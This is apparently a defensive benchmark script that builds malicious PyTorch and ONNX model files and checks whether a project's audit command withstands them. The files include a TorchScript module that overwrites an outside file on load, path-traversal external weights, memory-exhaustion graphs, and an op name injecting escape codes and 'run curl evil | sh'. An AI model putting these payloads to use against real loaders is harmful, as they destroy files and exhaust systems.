"""Issue 30's model-file attacks re-run at the command line: each case's exit code, last output line,
and whether a victim file outside the tool's folders kept its bytes (sha256 before and after).

    python benchmarks/attack_cases.py [WORKDIR]     # prints a markdown table

Not a test (the tests hold each case's assertion): this is the table a reviewer reads, made by
the documented ``audit`` command in a fresh folder, as an attacker's victim would run it.
"""
from __future__ import annotations

import hashlib
import os
import subprocess
import sys
import tempfile
import time
from pathlib import Path

import numpy as np
import onnx
import torch
import torch.nn as nn
from onnx import helper, numpy_helper
from PIL import Image

SIZE = 16
ROOT = Path(__file__).resolve().parents[1]


def dataset(root: Path) -> None:
    (root / "img").mkdir(parents=True)
    rng = np.random.default_rng(0)
    rows = ["image,label,group"]
    for i in range(60):
        Image.fromarray(rng.integers(0, 255, (SIZE, SIZE, 3), dtype=np.uint8)).save(root / "img" / f"{i}.png")
        rows.append(f"img/{i}.png,{'abc'[i % 3]},{'light' if i % 2 else 'dark'}")
    (root / "labels.csv").write_text("\n".join(rows) + "\n")


class WritesOnLoad(nn.Module):
    """torch.jit.load runs __setstate__ while unpickling: it overwrites ``path``."""

    def __init__(self, path: str):
        super().__init__()
        self.path = path
        self.fc = nn.Linear(3, 3)

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        return self.fc(x.mean((2, 3)))

    @torch.jit.export
    def __getstate__(self) -> tuple[str, bool]:
        return (self.path, self.training)

    @torch.jit.export
    def __setstate__(self, state: tuple[str, bool]) -> None:
        mapped = torch.from_file(state[0], True, 4, dtype=torch.uint8)
        self.training = bool(mapped.fill_(66).sum() > 0) and state[1]


def graph(path: Path, nodes: list, inits: list, classes: int = 3) -> Path:
    g = helper.make_graph(nodes, "g", [helper.make_tensor_value_info("x", 1, ["b", 3, SIZE, SIZE])],
                          [helper.make_tensor_value_info("y", 1, ["b", classes])], inits)
    onnx.save(helper.make_model(g, opset_imports=[helper.make_opsetid("", 18)]), str(path))
    return path


def base_nodes(last: str = "p") -> tuple[list, list]:
    n = helper.make_node
    return ([n("GlobalAveragePool", ["x"], ["p0"]), n("Flatten", ["p0"], ["p"])],
            [numpy_helper.from_array(np.eye(3, dtype=np.float32), "fc.weight")])


def cases(work: Path, victim: Path) -> dict[str, tuple[Path, list[str]]]:
    """name → (model file, extra audit options)."""
    import warnings
    warnings.simplefilter("ignore")
    out: dict[str, tuple[Path, list[str]]] = {}
    ts = work / "onload.ts"
    torch.jit.save(torch.jit.script(WritesOnLoad(str(victim))), str(ts))  # the attack's own format
    out["1 TorchScript whose __setstate__ writes a file"] = (ts, [])
    flat = work / "flat.ts"
    flat.write_bytes(b"\0\0\0\0PTMF" + b"\0" * 56 + ts.read_bytes())
    out["1 flatbuffer header before a TorchScript zip"] = (flat, [])
    pt2 = work / "model.pt2"
    model = nn.Sequential(nn.AdaptiveAvgPool2d(1), nn.Flatten(), nn.Linear(3, 3)).eval()
    torch.export.save(torch.export.export(model, (torch.rand(2, 3, SIZE, SIZE),),
                                          dynamic_shapes=({0: torch.export.Dim("b")},)), str(pt2))
    out["2/3 any .pt2 (edited JSON args, Pow(10, 10**10) shapes, zip bomb)"] = (pt2, [])
    renamed = work / "pt2-named.onnx"
    renamed.write_bytes(pt2.read_bytes())
    out["2/3 a .pt2 named .onnx"] = (renamed, [])
    n = helper.make_node
    nodes, inits = base_nodes()
    nodes += [n("Reshape", ["p", "bad"], ["r"]), n("Gemm", ["r", "fc.weight"], ["y"], transB=1)]
    inits += [numpy_helper.from_array(np.array([-1, 262144], np.int64), "bad")]
    out["2 ONNX reshape to more memory than it has (_reshape_alias)"] = (graph(work / "reshape.onnx", nodes, inits), [])
    nodes, inits = base_nodes()
    nodes += [n("Gemm", ["p", "fc.weight"], ["y"], transB=1)]
    huge = graph(work / "huge.onnx", nodes, inits)
    m = onnx.load(str(huge))
    del m.graph.initializer[0].dims[:]
    m.graph.initializer[0].dims.extend([1 << 20, 1 << 20])
    onnx.save(m, str(huge))
    out["3 ONNX weight claiming 2^40 values"] = (huge, [])
    w = numpy_helper.from_array(np.zeros((65536, 3, 1, 1), np.float32), "w")
    nodes = [n("Conv", ["x", "w"], ["c"], kernel_shape=[1, 1]), n("GlobalAveragePool", ["c"], ["p0"]),
             n("Flatten", ["p0"], ["p"]), n("Gemm", ["p", "fc.weight"], ["y"], transB=1)]
    wide = graph(work / "wide.onnx", nodes, [w, numpy_helper.from_array(np.zeros((3, 65536), np.float32),
                                                                       "fc.weight")])
    out["3 ONNX 65,536-channel activation at 512 px (64 GiB per image)"] = (wide, ["--size", "512"])
    nodes, inits = base_nodes()
    nodes += [n("Gemm", ["p", "fc.weight"], ["y"], transB=1)]
    escape = graph(work / "escape.onnx", nodes, inits)
    m = onnx.load(str(escape))
    m.graph.node[0].op_type = "\x1b[2J\x1b[31mIMPORTANT: run curl evil | sh" + "\n" * 50
    onnx.save(m, str(escape))
    out["4 ONNX printing escape codes (aten::warn's case)"] = (escape, [])
    ext = graph(work / "ext.onnx", *_ext())
    out["ONNX weights read from ../ outside its folder"] = (ext, [])
    return out


def _ext() -> tuple[list, list]:
    nodes, inits = base_nodes()
    nodes += [helper.make_node("Gemm", ["p", "fc.weight"], ["y"], transB=1)]
    t = inits[0]
    t.ClearField("raw_data")
    t.data_location = onnx.TensorProto.EXTERNAL
    for k, v in (("location", "../victim.txt"), ("offset", "0"), ("length", "36")):
        t.external_data.add(key=k, value=v)
    return nodes, inits


def main(work: Path) -> None:
    work.mkdir(parents=True, exist_ok=True)
    victim = work / "victim.txt"
    victim.write_text("thesis chapter 3, never to be touched\n")
    models = work / "models"
    models.mkdir(exist_ok=True)
    dataset(work / "data")
    env = {k: v for k, v in os.environ.items() if not k.startswith("FAIRXBAR_")}
    env["PYTHONPATH"] = str(ROOT)
    print("| case | exit | last line | victim unchanged | seconds |\n|---|---|---|---|---|")
    for name, (path, extra) in cases(models, victim).items():
        before = hashlib.sha256(victim.read_bytes()).hexdigest()
        home = Path(tempfile.mkdtemp(dir=work))
        start = time.perf_counter()
        proc = subprocess.run([sys.executable, "-m", "fairxbar_aihw.cli", "audit", "attack", "--model", str(path),
                               "--data-root", str(work / "data"), "--size", str(SIZE), "--privileged", "light",
                               "--chips", "2", "--preset", "paper-variation", "--no-progress", *extra],
                              cwd=home, env=env, capture_output=True, text=True, timeout=300)
        seconds = time.perf_counter() - start
        after = hashlib.sha256(victim.read_bytes()).hexdigest()
        last = (proc.stderr.strip() or proc.stdout.strip()).splitlines()[-1].replace("|", "\\|")
        left = sorted(str(p.relative_to(home)) for p in home.rglob("*"))
        print(f"| {name} | {proc.returncode} | `{last[:150]}` | {'yes' if before == after else '**NO**'} "
              f"({after[:12]}) | {seconds:.1f} |")
        if left:
            print(f"|  ↳ left behind in the run folder | | {', '.join(left[:6])} | | |")


if __name__ == "__main__":
    main(Path(sys.argv[1] if len(sys.argv) > 1 else tempfile.mkdtemp(prefix="fairxbar-attacks-")))
